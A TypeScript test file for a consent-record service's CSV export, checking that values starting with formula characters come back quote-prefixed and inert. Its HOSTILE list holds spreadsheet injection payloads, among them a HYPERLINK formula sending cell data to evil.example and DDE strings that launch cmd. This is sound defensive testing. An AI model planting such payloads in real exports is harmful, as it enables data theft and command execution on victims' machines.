// The CSV export against spreadsheet formula injection: hostile values sent through the record
// API and the texts archive come back, parsed as a spreadsheet would, as text that runs nothing.
import { afterEach, describe, expect, it } from 'vitest';
import { sha256, textHash } from '@consentry/core/texts';
import { createReceiver, type Listening } from '../src/index';
import { csvCell } from '../src/admin/csvCell';
import { backends, makeRecord } from './backends';

const TOKEN = 'test-admin-token-0123456789';
const admin = { authorization: `Bearer ${TOKEN}` };
// What Excel, LibreOffice and Google Sheets run as a formula when a cell starts with it.
const FORMULA_START = /^[=+\-@\t\r]/;
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1,"2"\r\n=3',
];

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c == '"' && text[i + 1] == '"') (cell += '"'), i++;
      else if (c == '"') quoted = false;
      else cell += c;
    } else if (c == '"') quoted = true;
    else if (c == ',') row.push(cell), (cell = '');
    else if (c == '\r' && text[i + 1] == '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('csvCell', () => {
  it('puts a quote before every value a spreadsheet would run, inside the CSV quoting', () => {
    for (const value of HOSTILE) {
      const [[cell]] = parseCsv(csvCell(value) + '\r\n') as [[string]];
      expect(cell).toBe("'" + value);
      expect(cell).not.toMatch(FORMULA_START);
    }
    expect(parseCsv(csvCell({ '=1': true }) + '\r\n')).toEqual([['{"=1":true}']]);
    expect([csvCell('accept_all'), csvCell(3), csvCell(null), csvCell('a,"b"')]).toEqual(['accept_all', '3', '', '"a,""b"""']);
  });
});

const [sqlite] = backends;
describe(`CSV export on ${sqlite!.name}`, () => {
  let server: Listening;
  let db: Awaited<ReturnType<typeof sqlite.fresh>>;
  afterEach(async () => {
    await server?.close();
    await db?.drop();
  });

  it('keeps hostile category and service names and archived texts as inert text that parses back to what was sent', async () => {
    db = await sqlite!.fresh();
    server = await createReceiver({ db: db.url, adminToken: TOKEN }).listen({ port: 0 });
    const texts = [...HOSTILE, 'Accept all'];
    const hash = await textHash(texts, async () => sha256);
    const put = await fetch(`${server.url}/admin/texts/${encodeURIComponent(hash)}`, {
      method: 'PUT',
      headers: { ...admin, 'content-type': 'application/json' },
      body: JSON.stringify({ language: 'en', revision: 1, texts }),
    });
    expect(put.status).toBe(201);
    const records = HOSTILE.map((name) =>
      makeRecord({ textHash: hash, categories: { necessary: true, [name]: true }, services: { [name]: { [name]: false } } }),
    );
    for (const record of records) {
      const r = await fetch(`${server.url}/consent`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(record) });
      expect(r.status).toBe(201);
    }

    const csv = await (await fetch(`${server.url}/admin/records?format=csv`, { headers: admin })).text();
    const [header, ...rows] = parseCsv(csv);
    expect(rows).toHaveLength(records.length);
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
    }
    const column = (name: string) => header!.indexOf(name);
    rows.forEach((row, i) => {
      const sent = records[i]!;
      expect(row[column('id')]).toBe(sent.id);
      expect(JSON.parse(row[column('categories')]!)).toEqual(sent.categories);
      expect(JSON.parse(row[column('services')]!)).toEqual(sent.services);
      expect(JSON.parse(row[column('texts')]!)).toEqual({ language: 'en', revision: 1, texts });
    });
  });
});
